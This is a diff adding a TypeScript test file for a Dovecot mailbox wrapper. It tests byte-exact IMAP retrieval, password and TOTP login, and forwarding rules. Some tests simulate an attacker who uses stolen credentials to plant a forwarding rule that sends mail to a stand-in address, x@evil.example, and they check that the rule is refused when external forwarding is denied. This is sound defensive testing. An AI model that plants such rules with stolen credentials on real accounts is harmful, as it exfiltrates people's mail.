@@ -1,0 +1,122 @@
+import { describe, it, expect, afterAll } from 'vitest';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, mkdtempSync, rmSync, statSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { ImapFlow } from 'imapflow';
+import { Mailbox } from './mailbox.js';
+import { totp, base32Decode, base32Encode } from './totp.js';
+
+const root = mkdtempSync(join(tmpdir(), 'ssmax-mbx-'));
+// Dovecot's mail processes run as an unprivileged uid and must traverse to each org's mail dir.
+chmodSync(root, 0o711);
+afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+function mail(n: number): Uint8Array {
+  return new TextEncoder().encode(
+    `From: a@org-a.example\r\nTo: b@org-b.example\r\nSubject: test ${n}\r\nMessage-ID: <m${n}@org-a.example>\r\n` +
+      `MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n` +
+      `本文 ${n}\r\n.leading dot\r\n${'x'.repeat(n * 100)}\r\n`,
+  );
+}
+
+async function login(mb: Mailbox, user: string, pass: string): Promise<ImapFlow> {
+  const c = new ImapFlow({ host: mb.host, port: mb.imapPort, secure: false, auth: { user, pass }, logger: false });
+  try {
+    await c.connect();
+  } catch (err) {
+    c.close();
+    throw err;
+  }
+  return c;
+}
+
+async function fetchAll(mb: Mailbox, user: string, pass: string): Promise<Buffer[]> {
+  const c = await login(mb, user, pass);
+  try {
+    const lock = await c.getMailboxLock('INBOX');
+    try {
+      const out: Buffer[] = [];
+      for await (const m of c.fetch('1:*', { source: true })) out.push(m.source!);
+      return out;
+    } finally {
+      lock.release();
+    }
+  } finally {
+    await c.logout();
+  }
+}
+
+const running = (pattern: string) => {
+  try {
+    return execFileSync('pgrep', ['-f', pattern]).toString().trim();
+  } catch {
+    return '';
+  }
+};
+
+describe('Mailbox', () => {
+  it('stores LMTP deliveries that IMAP returns byte-exact, refuses a wrong password, and leaves no process behind', async () => {
+    const dir = mkdtempSync(join(root, 'org-b-'));
+    let conf = '';
+    let instance = '';
+    {
+      await using mb = await Mailbox.start({ dir, host: '127.0.0.22', users: [{ address: 'b@org-b.example', password: 'correct horse' }] });
+      conf = mb.configPath;
+      instance = mb.instanceName;
+      expect(running(conf)).not.toBe('');
+      const users = statSync(join(dir, 'dovecot', 'users'));
+      expect(users.mode & 0o777).toBe(0o640);
+      for (const n of [1, 2, 3]) {
+        const r = await mb.deliver('b@org-b.example', mail(n), { mailFrom: 'a@org-a.example' });
+        expect(r.response).toMatch(/^250 /);
+      }
+      const got = await fetchAll(mb, 'b@org-b.example', 'correct horse');
+      expect(got).toHaveLength(3);
+      got.forEach((m, i) => {
+        // RFC 5321 §4.4: the delivering MTA adds Return-Path; everything after it is our bytes.
+        expect(m.equals(Buffer.concat([Buffer.from('Return-Path: <a@org-a.example>\r\n'), Buffer.from(mail(i + 1))]))).toBe(true);
+      });
+      await expect(login(mb, 'b@org-b.example', 'wrong')).rejects.toMatchObject({ authenticationFailed: true });
+      await expect(mb.deliver('nobody@org-b.example', mail(1))).rejects.toMatchObject({ code: 'UNKNOWN_RECIPIENT' });
+      await mb.addUser('c@org-b.example', 'pw-c');
+      await mb.deliver('c@org-b.example', mail(4));
+      expect(await fetchAll(mb, 'c@org-b.example', 'pw-c')).toHaveLength(1);
+    }
+    expect(running(conf)).toBe('');
+    expect(running(instance)).toBe('');
+  }, 30_000);
+
+  it('demands password:TOTP when the second factor is on and rejects the password alone or a stale code', async () => {
+    const dir = mkdtempSync(join(root, 'org-2fa-'));
+    const secret = base32Encode(new Uint8Array(20).map((_, i) => i * 13 + 1));
+    await using mb = await Mailbox.start({ dir, host: '127.0.0.23', secondFactor: true, users: [{ address: 'b@org-b.example', password: 'pw', totpSecret: secret }] });
+    await mb.deliver('b@org-b.example', mail(1));
+    const now = Math.floor(Date.now() / 1000);
+    const key = base32Decode(secret);
+    await expect(login(mb, 'b@org-b.example', 'pw')).rejects.toMatchObject({ authenticationFailed: true });
+    await expect(login(mb, 'b@org-b.example', `pw:${totp(key, now - 300)}`)).rejects.toMatchObject({ authenticationFailed: true });
+    await expect(login(mb, 'b@org-b.example', `wrong:${totp(key, now)}`)).rejects.toMatchObject({ authenticationFailed: true });
+    expect(await fetchAll(mb, 'b@org-b.example', `pw:${totp(key, now)}`)).toHaveLength(1);
+    // A stolen password alone cannot plant a forwarding rule either (incident 6 → 7).
+    await expect(mb.addForwardingRule('b@org-b.example', { password: 'pw' }, 'x@evil.example')).rejects.toMatchObject({ code: 'AUTH_FAILED' });
+  }, 30_000);
+
+  it('executes a forwarding rule planted with stolen credentials, unless external forwarding is denied', async () => {
+    const forwarded: string[][] = [];
+    const forward = async (to: string[]) => void forwarded.push(to);
+    const user = { address: 'b@org-b.example', password: 'stolen' };
+    {
+      await using mb = await Mailbox.start({ dir: mkdtempSync(join(root, 'fw-')), host: '127.0.0.24', users: [user], forward });
+      await expect(mb.addForwardingRule(user.address, { password: 'guess' }, 'x@evil.example')).rejects.toMatchObject({ code: 'AUTH_FAILED' });
+      await mb.addForwardingRule(user.address, { password: 'stolen' }, 'x@evil.example');
+      const r = await mb.deliver(user.address, mail(1));
+      expect(r.forwardedTo).toEqual(['x@evil.example']);
+      expect(forwarded).toEqual([['x@evil.example']]);
+    }
+    await using strict = await Mailbox.start({ dir: mkdtempSync(join(root, 'fw-deny-')), host: '127.0.0.25', users: [user], forward, externalForwarding: 'deny' });
+    await expect(strict.addForwardingRule(user.address, { password: 'stolen' }, 'x@evil.example')).rejects.toMatchObject({ code: 'FORWARDING_REFUSED' });
+    await strict.addForwardingRule(user.address, { password: 'stolen' }, 'colleague@org-b.example');
+    expect((await strict.deliver(user.address, mail(2))).forwardedTo).toEqual(['colleague@org-b.example']);
+  }, 30_000);
+});
